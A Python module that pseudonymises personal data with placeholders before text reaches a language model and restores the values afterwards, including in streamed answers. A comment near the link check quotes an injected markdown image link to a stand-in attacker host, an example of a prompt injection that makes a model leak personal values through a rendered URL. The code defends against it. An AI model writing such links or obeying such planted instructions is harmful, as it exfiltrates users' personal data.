"""Pseudonymise personal findings with a conversation's vault, and restore them afterwards.

Restoration tolerates what models do to placeholders. All of these restore ``[PERSONNE_1]``:

- ``[PERSONNE_1]`` as generated, ``[personne_1]`` or ``[Personne_1]`` (any case);
- ``[ PERSONNE_1 ]`` (up to three spaces inside the brackets), ``[PERSONNE 1]`` (a space for
  the underscore), ``[PERSONNE_01]`` (leading zeros), ``[TÉLÉPHONE_1]`` (accents added);
- ``PERSONNE_1`` without brackets, but only written exactly as generated (upper case, with its
  underscores), as a whole word, and when the vault knows it: "PERSONNE_1," is restored,
  "personne_1", "PERSONNE_12" (unless known) or "XPERSONNE_1" are not.

Anything else, and every placeholder the vault does not know, is left as it is. A text that
already contained a placeholder-shaped string known to the vault gets it restored too.

:class:`StreamRestorer` gives, for any chunking of a text, exactly what :func:`restore` gives for
the whole text, while holding back at most :data:`MAX_PLACEHOLDER_CHARS` characters.
"""

from __future__ import annotations

import re
import unicodedata
from collections.abc import Sequence
from dataclasses import dataclass

from egide.guard.engine import resolve_overlaps
from egide.guard.findings import Finding
from egide.guard.vault import PLACEHOLDER_NAMES, Vault

__all__ = [
    "MAX_PLACEHOLDER_CHARS",
    "LINK_LOOKBACK",
    "PlaceholderSpan",
    "Pseudonymized",
    "StreamRestorer",
    "pseudonymize",
    "pseudonymize_spans",
    "in_link",
    "personal_in_order",
    "placeholders_in_links",
    "restore",
    "unrestored_placeholders",
]

# Every repeat below is bounded and each match attempt starts on "[" or a word start, so a scan
# costs a constant per character.
_LETTER = r"[A-Za-zÀ-ÖØ-öø-ÿ]"
_BRACKETED = (
    rf"\[[ \t]{{0,3}}(?P<name>{_LETTER}{{2,20}}(?:[ _]{_LETTER}{{2,20}})?)[ _]"
    r"(?P<number>[0-9]{1,7})[ \t]{0,3}\]"
)
_BARE = r"\b(?P<bare>[A-Z]{2,20}(?:_[A-Z]{2,20})?_[0-9]{1,7})\b"
_PLACEHOLDER_RE = re.compile(f"{_BRACKETED}|{_BARE}")

# Longest text the bracketed form can match: "[", 3 spaces, 20 letters, separator, 20 letters,
# separator, 7 digits, 3 spaces, "]".
MAX_PLACEHOLDER_CHARS = 1 + 3 + 20 + 1 + 20 + 1 + 7 + 3 + 1

# Any unfinished beginning of a bracketed placeholder (a superset: holding a little too much is
# harmless, releasing a beginning too early is not).
_BRACKETED_START_RE = re.compile(
    rf"\[[ \t]{{0,3}}(?:{_LETTER}{{1,20}}(?:[ _](?:{_LETTER}{{1,20}}"
    r"(?:[ _](?:[0-9]{1,7}[ \t]{0,3})?)?|[0-9]{1,7}[ \t]{0,3})?)?)?"
)
_BARE_START_RE = re.compile(r"([A-Z_]{1,42})([0-9]{0,7})")
_WORD_CHAR_RE = re.compile(r"\w")


@dataclass(frozen=True, slots=True)
class PlaceholderSpan:
    """Where ``placeholder`` sits in the pseudonymised text, and the label it stands for."""

    placeholder: str
    start: int
    end: int
    label: str


@dataclass(frozen=True, slots=True)
class Pseudonymized:
    """The pseudonymised text and its placeholders, in text order."""

    text: str
    spans: tuple[PlaceholderSpan, ...]


def personal_in_order(text: str, findings: Sequence[Finding]) -> list[Finding]:
    personal = sorted((f for f in findings if f.is_personal), key=lambda f: (f.start, -f.end))
    overlapping = False
    previous_end = 0
    for finding in personal:
        if not 0 <= finding.start < finding.end <= len(text) or (
            finding.text and text[finding.start : finding.end] != finding.text
        ):
            # The value is never quoted: this message may reach a log.
            raise ValueError(
                f"le constat {finding.label} ({finding.start}–{finding.end}) ne correspond pas "
                "au texte fourni : les constats doivent venir de l'analyse de ce texte"
            )
        overlapping = overlapping or finding.start < previous_end
        previous_end = max(previous_end, finding.end)
    # Guard.detect never overlaps; hand-made lists might, and then the engine's rule decides.
    return resolve_overlaps(personal) if overlapping else personal


def pseudonymize_spans(text: str, findings: Sequence[Finding], vault: Vault) -> Pseudonymized:
    """``text`` with every personal finding replaced by its placeholder, and where each one is.

    Non-personal findings (ORG, DATE, MISC) are left in the text. Placeholders are numbered in
    order of appearance. The text is rebuilt left to right in one pass, which gives what
    replacing right to left would give, in linear time.
    """
    pieces: list[str] = []
    spans: list[PlaceholderSpan] = []
    position = 0
    length = 0
    for finding in personal_in_order(text, findings):
        placeholder = vault.placeholder_for(finding.label, text[finding.start : finding.end])
        before = text[position : finding.start]
        pieces.append(before)
        pieces.append(placeholder)
        length += len(before)
        spans.append(PlaceholderSpan(placeholder, length, length + len(placeholder), finding.label))
        length += len(placeholder)
        position = finding.end
    pieces.append(text[position:])
    return Pseudonymized("".join(pieces), tuple(spans))


def pseudonymize(text: str, findings: Sequence[Finding], vault: Vault) -> str:
    """``text`` with every personal finding replaced by its placeholder from ``vault``."""
    return pseudonymize_spans(text, findings, vault).text


def _canonical(match: re.Match[str]) -> str:
    bare = match.group("bare")
    if bare is not None:
        return f"[{bare}]"
    decomposed = unicodedata.normalize("NFD", match.group("name"))
    name = "".join(ch for ch in decomposed if not unicodedata.combining(ch))
    return f"[{name.upper().replace(' ', '_')}_{int(match.group('number'))}]"


# A placeholder written inside a web address is never restored: a document can instruct the
# model to write "![](https://attacker.example/?q=[NIR_1])", and whoever renders the answer (a
# business application, a mail client) would then send the value to that address. The address
# is the run of non-space characters before the placeholder; past this many characters without
# a space, the run is treated as an address too (natural text has spaces).
LINK_LOOKBACK = 2048


def in_link(text: str, at: int) -> bool:
    """Is position ``at`` of ``text`` inside a web address ("…://…" or "www.…")?"""
    start = at
    while start > 0 and not text[start - 1].isspace():
        start -= 1
        if at - start >= LINK_LOOKBACK:
            return True
    run = text[start:at]
    return "://" in run or "www." in run.lower()


def placeholders_in_links(text: str) -> int:
    """How many placeholder-shaped strings of ``text`` sit inside a web address."""
    return sum(1 for match in _PLACEHOLDER_RE.finditer(text) if in_link(text, match.start()))


def _restore_until(buffer: str, start: int, limit: int, vault: Vault) -> tuple[str, int]:
    """Restored ``buffer[start:limit]``, and where it stopped.

    ``buffer[:start]`` was already emitted: it is there for word boundaries. When ``limit`` is
    where a possible placeholder begins, no match starts before it and ends after it; were that
    ever broken, the match would be held back whole (the stop moves to its start), never cut.
    """
    pieces: list[str] = []
    position = start
    for match in _PLACEHOLDER_RE.finditer(buffer, start):
        if match.start() >= limit:
            break
        if match.end() > limit:
            limit = match.start()
            break
        value = vault.original(_canonical(match))
        if value is not None and not in_link(buffer, match.start()):
            pieces.append(buffer[position : match.start()])
            pieces.append(value)
            position = match.end()
    pieces.append(buffer[position:limit])
    return "".join(pieces), limit


def restore(text: str, vault: Vault) -> str:
    """``text`` with every placeholder known to ``vault`` replaced by its original value."""
    if not len(vault):
        return text
    return _restore_until(text, 0, len(text), vault)[0]


def unrestored_placeholders(text: str, vault: Vault) -> tuple[list[str], int]:
    """What :func:`restore` leaves in ``text``: the placeholders ``vault`` does not know (in
    their canonical form, once each, in text order) and how many known ones sit in a web
    address. A bare ``WORD_1`` counts only under a name Égide gives placeholders, so that
    ``ARTICLE_12`` in a text is not taken for one."""
    names = frozenset(PLACEHOLDER_NAMES.values()) | vault.names_in_use()
    unknown: dict[str, None] = {}
    in_links = 0
    for match in _PLACEHOLDER_RE.finditer(text):
        canonical = _canonical(match)
        if match.group("bare") is not None and canonical[1:].rsplit("_", 1)[0] not in names:
            continue
        if vault.original(canonical) is None:
            unknown.setdefault(canonical)
        elif in_link(text, match.start()):
            in_links += 1
    return list(unknown), in_links


def _is_word_char(char: str) -> bool:
    return _WORD_CHAR_RE.match(char) is not None


def _bare_may_follow(tail: str, names: frozenset[str]) -> bool:
    """Could ``tail`` (a whole word so far) still become, or stay, a known bare placeholder?"""
    match = _BARE_START_RE.fullmatch(tail)
    if match is None:
        return False
    letters, digits = match.groups()
    if not digits:
        return any(f"{name}_".startswith(letters) for name in names)
    return letters.endswith("_") and letters[:-1] in names


class StreamRestorer:
    """Restores a streamed answer chunk by chunk.

    ``feed`` returns what can be shown now; ``flush`` the rest once the stream has ended. A
    placeholder cut anywhere between chunks is restored whole. Only a possible beginning of a
    placeholder is held back (at most :data:`MAX_PLACEHOLDER_CHARS` characters): text without
    "[" passes through at once, except a final upper-case word that could begin a bare
    placeholder the vault knows (such as "PERSONNE_").
    """

    def __init__(self, vault: Vault) -> None:
        self._vault = vault
        self._pending = ""
        # What was emitted last: its final character for word boundaries, and the run of
        # non-space characters it ends with (bounded), to tell whether a web address is open.
        self._context = ""

    @property
    def held(self) -> int:
        """How many characters are held back, waiting for the next chunk."""
        return len(self._pending)

    def _hold_from(self, buffer: str, start: int) -> int:
        end = len(buffer)
        low = max(start, end - MAX_PLACEHOLDER_CHARS)
        bracket = buffer.find("[", low)
        while bracket != -1:
            if _BRACKETED_START_RE.fullmatch(buffer, bracket):
                return bracket
            bracket = buffer.find("[", bracket + 1)
        word_start = end
        while word_start > low and _is_word_char(buffer[word_start - 1]):
            word_start -= 1
        if word_start == end or (word_start > 0 and _is_word_char(buffer[word_start - 1])):
            return end
        if _bare_may_follow(buffer[word_start:], self._vault.names_in_use()):
            return word_start
        return end

    def _emit(self, buffer: str, start: int, limit: int) -> str:
        out, stop = _restore_until(buffer, start, limit, self._vault)
        self._pending = buffer[stop:]
        run = stop
        while run > 0 and stop - run < LINK_LOOKBACK and not buffer[run - 1].isspace():
            run -= 1
        self._context = buffer[min(run, max(stop - 1, 0)) : stop]
        return out

    def feed(self, chunk: str) -> str:
        if not chunk:
            return ""
        buffer = self._context + self._pending + chunk
        start = len(self._context)
        return self._emit(buffer, start, self._hold_from(buffer, start))

    def flush(self) -> str:
        buffer = self._context + self._pending
        out = self._emit(buffer, len(self._context), len(buffer))
        self._context = ""
        return out
